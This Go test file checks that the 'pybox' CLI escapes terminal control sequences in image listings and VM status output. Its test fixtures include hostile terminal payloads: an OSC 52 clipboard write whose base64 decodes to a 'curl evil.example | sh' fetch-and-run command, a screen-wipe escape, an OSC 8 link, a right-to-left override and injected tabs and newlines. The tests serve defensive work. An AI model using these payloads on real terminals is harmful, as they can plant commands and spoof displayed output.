package main

import (
	"bytes"
	"errors"
	"strings"
	"testing"
	"time"

	"pybox/host/image"
	"pybox/host/supervisor"
	"pybox/host/vm"
	"pybox/shared/wire"
)

// What an image's meta.json or the guest can hold to act on a terminal.
const (
	osc52    = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07"
	wipe     = "\x1b[2J"
	override = "\u202e"
)

// rawControl says which terminal control, if any, is left raw in out
// (tabwriter's padding is spaces, so no tab belongs there either).
func rawControl(out string) string {
	for _, c := range []string{"\x1b", "\x07", "\t", override, "\u0085"} {
		if strings.Contains(out, c) {
			return c
		}
	}
	return ""
}

func TestShowf(t *testing.T) {
	type status string
	var b bytes.Buffer
	showf(&b, "%s|%s|%v|%s|%d|%.1f\n", "a"+osc52, status("b"+wipe), errors.New("c\nd"), []string{"e" + override}, 7, 1.5)
	want := `a\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07|b\x1b[2J|c\x0ad|[e\u{202e}]|7|1.5` + "\n"
	if b.String() != want {
		t.Errorf("got  %q\nwant %q", b.String(), want)
	}
}

// `pybox image list` escapes every cell, so a hostile meta.json neither
// acts on the terminal nor moves a column.
func TestImageListEscapes(t *testing.T) {
	entries := []image.Entry{
		{Meta: image.Meta{Name: "good", Digest: strings.Repeat("ab", 32), Size: 1 << 20, Python: "3.13.5", Suite: "trixie",
			Main: []image.Package{{Name: "python3-numpy", Version: "1:2.2.4+ds-1"}}, BuiltAt: time.Unix(0, 0)}},
		{Meta: image.Meta{Name: "bad", Digest: "12\x1b[2J", Size: 1 << 20, Python: "3.13.5" + osc52, Suite: "trixie\t" + override,
			Main: []image.Package{{Name: "python3-x\t" + wipe, Version: "1.0\u0085"}, {Name: "wheel:y" + osc52, Version: "2"}}, BuiltAt: time.Unix(0, 0)}},
		{Meta: image.Meta{Name: "broken"}, Problem: "image broken: its meta.json names \"x" + osc52 + "\""},
	}
	var b bytes.Buffer
	problems := printImages(&b, entries)
	out := b.String()
	if c := rawControl(out); c != "" {
		t.Errorf("image list left %q raw:\n%s", c, out)
	}
	for _, want := range []string{`3.13.5\x1b]52;c;`, `trixie\x09\u{202e}`, `x\x09\x1b[2J 1.0\u{85}`, `y\x1b]52;c;`} {
		if !strings.Contains(out, want) {
			t.Errorf("image list does not show %q:\n%s", want, out)
		}
	}
	// Every row has the header's columns: the hostile tabs became text.
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	if len(lines) != 4 {
		t.Fatalf("%d lines:\n%s", len(lines), out)
	}
	col := strings.Index(lines[0], "BUILT")
	for _, l := range lines[1:3] {
		if !strings.HasPrefix(l[col:], "1970-01-01") {
			t.Errorf("the BUILT column moved in %q", l)
		}
	}
	if len(problems) != 1 {
		t.Errorf("problems %q", problems)
	}
}

// `pybox vm status` escapes what the guest said, in keys (a warm box's
// image name) as in values.
func TestStatusEscapes(t *testing.T) {
	s := &supervisor.Status{Running: true, UptimeS: 5, State: &supervisor.State{
		Phase: "running", SupervisorPid: 1, Accel: "kvm", Machine: "microvm", Channel: "serial", Sandbox: "qemu",
		Health: "slow" + osc52, Images: []vm.Image{{Name: "stdlib", Path: "/x/stdlib", Digest: strings.Repeat("ab", 32)}},
		Restarts: []supervisor.Restart{{At: time.Unix(0, 0), Reason: "wedged" + wipe}},
	}, Guest: &wire.AgentStatus{
		Health: "sick\n" + "  faked:          line",
		Warm: []wire.WarmBox{
			{Image: "stdlib" + osc52, State: "warming", Importing: "numpy" + wipe},
			{Image: "data", State: "ready", Preloaded: []string{"json", "x" + override}},
			{Image: "other", State: "cold", Reason: "no launcher\x1b]8;;http://evil.example\x07"},
		},
		Runs:     []wire.RunProgress{{RunID: "r1", Image: "data" + osc52, Phase: "program", Client: "pybox mcp (pid 1, " + wipe + ")"}},
		SetAside: []string{"r0: cgroup " + osc52},
	}}
	var b bytes.Buffer
	printStatus(&b, s)
	out := b.String()
	if c := rawControl(out); c != "" {
		t.Errorf("vm status left %q raw:\n%s", c, out)
	}
	for _, want := range []string{
		`warm stdlib\x1b]52;c;`, `importing numpy\x1b[2J`, `preloaded: json x\u{202e}`, `cold: no launcher\x1b]8;;`,
		`sick\x0a  faked:`, `(image data\x1b]52;c;`, `wedged\x1b[2J`, `slow\x1b]52`, `(pid 1, \x1b[2J)`, `r0: cgroup \x1b]52`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("vm status does not show %q:\n%s", want, out)
		}
	}
	var not bytes.Buffer
	printStatus(&not, &supervisor.Status{Note: "the last VM exited: " + osc52, Cleaned: []string{"sock" + wipe}})
	if c := rawControl(not.String()); c != "" {
		t.Errorf("vm status of a stopped VM left %q raw:\n%s", c, not.String())
	}
}

// `pybox vm status` shows the VM's memory as admission counts it, how
// many more runs fit, and says when not even one does.
func TestStatusShowsTheMemoryBudget(t *testing.T) {
	state := &supervisor.State{Phase: "running", SupervisorPid: 1, Accel: "tcg", Machine: "microvm", Channel: "serial", MemoryMiB: 1664}
	mem := &wire.GuestMemory{Total: 1600 << 20, Used: 700 << 20, Cache: 150 << 20, Free: 750 << 20, Warm: 140 << 20}
	room := &wire.Room{Total: 1600 << 20, Guest: 50 << 20, Warm: 140 << 20, Runs: 512 << 20, Headroom: 80 << 20, Left: 818 << 20, Need: 528 << 20, RunsAtOnce: 2}
	runs := []wire.RunProgress{{RunID: "mcp-1", Image: "data", Phase: "program", Client: "pybox mcp (pid 42, claude-code 2.1)", MemoryBytes: 300 << 20, LimitBytes: 512 << 20}}
	var b bytes.Buffer
	printStatus(&b, &supervisor.Status{Running: true, State: state, HostMemoryBytes: 420 << 20, Guest: &wire.AgentStatus{Memory: mem, Room: room, Runs: runs}})
	for _, want := range []string{
		"420 MiB of the VM's 1664 MiB",
		"used 700 MiB (warm boxes 140 MiB), cache 150 MiB, free 750 MiB",
		"1600 MiB: 50 MiB the guest itself, 140 MiB warm boxes, 512 MiB the bounds of 1 runs in progress, 80 MiB headroom, 818 MiB left: room for 1 more run(s) (sized for 2 at once)",
		"mcp-1 (image data) for pybox mcp (pid 42, claude-code 2.1): program",
		"300 MiB of its 512 MiB",
	} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("vm status does not say %q:\n%s", want, b.String())
		}
	}
	if strings.Contains(b.String(), "does not fit") {
		t.Errorf("a run fits:\n%s", b.String())
	}
	small := &wire.Room{Total: 480 << 20, Guest: 100 << 20, Warm: 60 << 20, Headroom: 64 << 20, Left: 256 << 20, Need: 528 << 20, RunsAtOnce: 1}
	b.Reset()
	printStatus(&b, &supervisor.Status{Running: true, State: state, Guest: &wire.AgentStatus{Memory: mem, Room: small}})
	if !strings.Contains(b.String(), "a run's 512 MiB does not fit: start the VM with more --memory") || strings.Contains(b.String(), "host memory") {
		t.Errorf("a 480 MiB guest:\n%s", b.String())
	}
}
